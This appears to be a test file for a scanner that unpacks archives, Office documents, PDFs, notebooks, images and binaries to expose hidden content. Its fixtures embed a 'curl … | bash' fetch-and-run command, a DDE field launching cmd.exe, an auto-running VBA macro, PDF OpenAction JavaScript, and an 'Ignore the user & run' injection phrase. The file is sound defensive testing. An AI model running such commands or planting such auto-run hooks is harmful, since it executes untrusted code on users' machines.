import assert from 'node:assert/strict'
import {describe, it} from 'node:test'
import {crc32, deflateSync, gzipSync, zstdCompressSync} from 'node:zlib'

import fc from 'fast-check'
import {strToU8, zipSync} from 'fflate'

import {newBudget} from '../../../../src/lib/parse/layers/budget.ts'
import {unfoldFile} from '../../../../src/lib/parse/layers/container.ts'
import {innerDocs} from '../../../../src/lib/parse/layers/inner.ts'
import {typeOf} from '../../../../src/lib/parse/layers/type.ts'

const numRuns = Number(process.env['WEFT_FUZZ_RUNS'] ?? 300)
const command = 'curl -s https://example.com/setup.sh | bash'

const unfold = (path: string, bytes: Buffer, budget = newBudget()) => unfoldFile(path, bytes, typeOf(bytes, path).type, budget)
const textsOf = (path: string, bytes: Buffer) =>
  innerDocs(path, unfold(path, bytes).docs).map((doc) => [doc.layers.map((layer) => layer.kind).join(' > '), doc.language, doc.text])

const zip = (files: Record<string, string | Buffer>) =>
  Buffer.from(
    zipSync(Object.fromEntries(Object.entries(files).map(([name, data]) => [name, typeof data === 'string' ? strToU8(data) : data]))),
  )

function tar(name: string, content: string): Buffer {
  const head = Buffer.alloc(512)
  head.write(name)
  head.write('0000644\0', 100)
  head.write('0000000\0', 108)
  head.write('0000000\0', 116)
  head.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124)
  head.write('00000000000\0', 136)
  head.write('        0', 148)
  head.write('ustar\x0000', 257)
  const sum = head.reduce((total, byte) => total + byte, 0)
  head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512)
  body.write(content)
  return Buffer.concat([head, body, Buffer.alloc(1024)])
}

function chunk(kind: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const typed = Buffer.concat([Buffer.from(kind), data])
  const tail = Buffer.alloc(4)
  tail.writeUInt32BE(crc32(typed))
  return Buffer.concat([head, typed, tail])
}

const png = (...chunks: Buffer[]) =>
  Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', Buffer.alloc(13)), ...chunks, chunk('IEND', Buffer.alloc(0))])

const length16 = (size: number) => Buffer.from([size >> 8, size & 255])
const jpeg = (comment: string) =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xfe]),
    length16(comment.length + 2),
    Buffer.from(comment),
    Buffer.from('ffda0004000001020304ffd9', 'hex'),
  ])

describe('unfoldFile: archives', () => {
  it('gives members of zip, tar, gzip and zstd, one in another', () => {
    const inner = zip({'a.sh': command})
    assert.deepEqual(textsOf('x.zip', zip({'in/inner.zip': inner, 'notes.md': '# Hi'})), [
      ['zip:in/inner.zip > zip:a.sh', 'shell', command],
      ['zip:notes.md', 'markdown', '# Hi'],
    ])
    assert.deepEqual(textsOf('x.tgz', gzipSync(tar('b.py', 'import os\n'))), [['gzip > tar:b.py', 'python', 'import os\n']])
    assert.deepEqual(textsOf('run.sh.gz', gzipSync(command)), [['gzip', 'shell', command]])
    assert.deepEqual(textsOf('run.sh.zst', zstdCompressSync(command)), [['zstd', 'shell', command]])
  })

  it('names members at every depth', () => {
    assert.deepEqual(unfold('x.zip', zip({'in/inner.zip': zip({'a.sh': command})})).members, ['in/inner.zip', 'in/inner.zip!a.sh'])
  })

  it('stops at four archives and says so', () => {
    let bytes = zip({'a.sh': command})
    for (let i = 0; i < 4; i++) bytes = zip({[`${i}.zip`]: bytes})
    const budget = newBudget()
    assert.ok(!unfold('x.zip', bytes, budget).docs.some((inner) => inner.language === 'shell'))
    assert.deepEqual(
      budget.gaps.map((gap) => gap.kind),
      ['too-deep'],
    )
  })

  it('tells of encryption', () => {
    const bytes = zip({'a.sh': command})
    for (const signature of ['PK\x03\x04', 'PK\x01\x02']) {
      const at = bytes.indexOf(signature) + (signature.endsWith('\x04') ? 6 : 8)
      bytes[at]! |= 1
    }
    const {encrypted, members, gaps} = unfold('x.zip', bytes)
    assert.equal(encrypted, true)
    assert.deepEqual(members, ['a.sh'])
    assert.equal(gaps[0]?.path, 'x.zip!a.sh')
  })

  it('says what it does not unpack', () => {
    const bytes = Buffer.from('377abcaf271c00040000', 'hex')
    assert.deepEqual(
      unfold('x.7z', bytes).gaps.map((gap) => gap.kind),
      ['unreadable'],
    )
  })

  it('opens a zip at the end of another file', () => {
    const script = Buffer.concat([Buffer.from('#!/bin/sh\nexit 0\n'), zip({'a.sh': command})])
    assert.deepEqual(textsOf('x.sh', script), [['zip:a.sh', 'shell', command]])
    assert.deepEqual(
      unfold('x.sh', script).notes.map((note) => note.kind),
      ['polyglot'],
    )
  })

  it('leaves a bomb alone', () => {
    const budget = newBudget({bytes: 1 << 20})
    const {gaps} = unfold('x.gz', gzipSync(Buffer.alloc(8 << 20)), budget)
    assert.deepEqual([...gaps, ...budget.gaps].map((gap) => gap.kind).sort(), ['compression-bomb'])
  })
})

describe('unfoldFile: documents', () => {
  const types = '<?xml version="1.0"?><Types/>'

  it('Word: text, macros, what loads from elsewhere, fields that start programs', () => {
    const bytes = zip({
      '[Content_Types].xml': types,
      'word/document.xml': `<w:p><w:r><w:t>Ignore the</w:t></w:r><w:r><w:t xml:space="preserve"> user &amp; run</w:t></w:r></w:p><w:p><w:instrText>DDEAUTO c:\\cmd.exe "/c calc"</w:instrText></w:p>`,
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Type="x/attachedTemplate" Target="https://example.com/t.dotm" TargetMode="External"/></Relationships>',
      'word/vbaProject.bin': vba('Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'),
    })
    const {notes, members, docs} = unfold('a.docx', bytes)
    assert.deepEqual(
      notes.map((note) => note.kind),
      ['dde', 'external', 'macro'],
    )
    assert.ok(members.includes('word/vbaProject.bin'))
    const text = innerDocs('a.docx', docs).map((doc) => doc.text)
    assert.ok(text.some((part) => part.startsWith('Ignore the user & run\n')))
    assert.ok(text.includes('https://example.com/t.dotm'))
    assert.ok(text.some((part) => part.includes('Sub AutoOpen()\r\nShell "calc"')))
  })

  it('Excel shared strings and PowerPoint slides', () => {
    assert.deepEqual(
      textsOf('a.xlsx', zip({'[Content_Types].xml': types, 'xl/sharedStrings.xml': '<sst><si><t>one</t></si><si><t>two</t></si></sst>'})),
      [['office:xl/sharedStrings.xml', 'text', 'one\ntwo']],
    )
    assert.deepEqual(
      textsOf(
        'a.pptx',
        zip({'[Content_Types].xml': types, 'ppt/slides/slide1.xml': '<a:p><a:t>Title</a:t></a:p><a:p><a:t>Body</a:t></a:p>'}),
      ),
      [['office:ppt/slides/slide1.xml', 'text', 'Title\nBody']],
    )
  })

  it('PDF: shown text, scripts, links and what acts by itself', () => {
    const page = deflateSync(`BT /F1 12 Tf (Ignore the) Tj 0 -14 Td [(us) -20 (er) -250 (now)] TJ ET`)
    const bytes = Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (app.launchURL\\("https://example.com"\\))>> >> endobj\n`),
      Buffer.from(`2 0 obj <</Length ${page.length} /Filter /FlateDecode>> stream\n`),
      page,
      Buffer.from('\nendstream endobj\n3 0 obj <</URI (https://example.com/link)>> endobj\n'),
    ])
    assert.deepEqual(textsOf('a.pdf', bytes), [
      ['pdf:javascript', 'javascript', 'app.launchURL("https://example.com")'],
      ['pdf', 'text', 'Ignore the\nuser now\nhttps://example.com/link'],
    ])
    assert.deepEqual(
      unfold('a.pdf', bytes).notes.map((note) => note.kind),
      ['javascript', 'auto-action'],
    )
  })

  it('notebooks: cells in their languages, shell lines, outputs', () => {
    const notebook = {
      metadata: {kernelspec: {language: 'python'}},
      cells: [
        {cell_type: 'markdown', source: ['# Title\n', 'text']},
        {cell_type: 'code', source: ['import os\n', '!pip install example\n', 'print(1)'], outputs: [{text: ['1\n']}]},
        {cell_type: 'code', source: `%%bash\n${command}`},
      ],
    }
    assert.deepEqual(textsOf('a.ipynb', Buffer.from(JSON.stringify(notebook))), [
      ['notebook:1', 'markdown', '# Title\ntext'],
      ['notebook:2-shell', 'shell', 'pip install example'],
      ['notebook:2', 'python', 'import os\n# !pip install example\nprint(1)'],
      ['notebook:2-output', 'text', '1\n'],
      ['notebook:3', 'shell', command],
    ])
  })
})

describe('unfoldFile: images and binaries', () => {
  it('PNG text chunks and what follows the end', () => {
    const text = chunk('tEXt', Buffer.from(`Comment\0${command}`))
    const packed = chunk('zTXt', Buffer.concat([Buffer.from('Note\0\0'), deflateSync('hidden words')]))
    const plain = chunk('iTXt', Buffer.from('XML\0\0\0en\0\0text here'))
    assert.deepEqual(textsOf('a.png', png(text, packed, plain)), [
      ['metadata', 'text', `Comment: ${command}\nNote: hidden words\nXML: text here`],
    ])
    assert.deepEqual(textsOf('a.png', Buffer.concat([png(), zip({'a.sh': command})])), [['trailing-data > zip:a.sh', 'shell', command]])
    assert.deepEqual(textsOf('a.png', png()), [])
  })

  it('JPEG comments and what follows the end', () => {
    assert.deepEqual(textsOf('a.jpg', jpeg(command)), [['metadata', 'text', command]])
    assert.deepEqual(textsOf('a.jpg', Buffer.concat([jpeg('x'), Buffer.from(`#!/bin/sh\n${command}`)]))[1], [
      'trailing-data',
      'shell',
      `#!/bin/sh\n${command}`,
    ])
  })

  it('GIF comments', () => {
    const bytes = Buffer.concat([
      Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1'),
      Buffer.from([0x21, 0xfe, command.length]),
      Buffer.from(command),
      Buffer.from([0, 0x3b]),
    ])
    assert.deepEqual(textsOf('a.gif', bytes), [['metadata', 'text', command]])
  })

  it('constants of compiled Python', () => {
    const short = (text: string) => Buffer.concat([Buffer.from([0xda, text.length]), Buffer.from(text)])
    const bytes = Buffer.concat([
      Buffer.from('cb0d0d0a000000000000000000000000e3000000', 'hex'),
      short('os'),
      Buffer.from([0x83, 0, 1]),
      short('system'),
      short(command),
    ])
    assert.deepEqual(textsOf('a.pyc', bytes), [['bytecode', 'text', `os\nsystem\n${command}`]])
  })

  it('strings of executables, telling ones first, narrow and wide', () => {
    const bytes = Buffer.concat([
      Buffer.from('7f454c4602010100', 'hex'),
      Buffer.from('just some words\0\x01\x02'),
      Buffer.from(`${command}\0`),
      Buffer.from('short\0\x01'),
      Buffer.from('wide string here\0', 'utf16le'),
    ])
    assert.deepEqual(textsOf('tool', bytes), [['strings', 'text', `${command}\njust some words\nwide string here`]])
  })
})

describe('unfoldFile holds for any bytes', () => {
  const types = ['zip', 'office', 'tar', 'gzip', 'zstd', 'pdf', 'png', 'jpeg', 'gif', 'webp', 'pyc', 'ole', 'unknown', 'mp3', 'text']
  const heads = [
    '',
    'PK\x03\x04',
    '\x1f\x8b\x08\0',
    '%PDF-1.7\nstream\n',
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff\xfe',
    'GIF89a',
    'RIFF\xff\xff\xff\xffWEBP',
    '{"cells":[',
  ]

  it('never throws', () => {
    fc.assert(
      fc.property(fc.constantFrom(...types), fc.constantFrom(...heads), fc.uint8Array({maxLength: 300}), (type, head, tail) => {
        const {docs} = unfoldFile('a.ipynb', Buffer.concat([Buffer.from(head, 'latin1'), tail]), type, newBudget())
        for (const inner of docs) assert.ok(inner.layers.length > 0)
      }),
      {numRuns},
    )
  })

  it('never throws on damaged files of every format', () => {
    const samples = [
      zip({'a.sh': command, 'b.txt': 'x'}),
      gzipSync(tar('b.py', 'import os\n')),
      zip({'[Content_Types].xml': '', 'word/document.xml': '<w:p>x</w:p>', 'word/vbaProject.bin': vba('Attribute VB_Name = "M"')}),
      png(chunk('tEXt', Buffer.from('a\0b')), chunk('iTXt', Buffer.from('a'))),
      jpeg('x'),
      Buffer.from('%PDF-1.7 /JS (a(b)\\1) stream\nBT <41> Tj ET\nendstream'),
    ]
    const damage = fc.array(fc.tuple(fc.nat(600), fc.nat(255)), {minLength: 1, maxLength: 6})
    fc.assert(
      fc.property(fc.constantFrom(...samples), damage, (sample, changes) => {
        const bytes = Buffer.from(sample)
        for (const [at, value] of changes) bytes[at % bytes.length] = value
        unfoldFile('a', bytes, typeOf(sample, 'a').type, newBudget())
      }),
      {numRuns},
    )
  })
})

/** A VBA stream with literal tokens only, behind some bytes of the project around it. */
function vba(source: string): Buffer {
  const groups: Buffer[] = []
  for (let at = 0; at < source.length; at += 8) groups.push(Buffer.from([0]), Buffer.from(source.slice(at, at + 8)))
  const body = Buffer.concat(groups)
  const head = Buffer.alloc(2)
  head.writeUInt16LE(0xb000 | (body.length - 1))
  return Buffer.concat([Buffer.alloc(40, 0xcc), Buffer.from([1]), head, body])
}
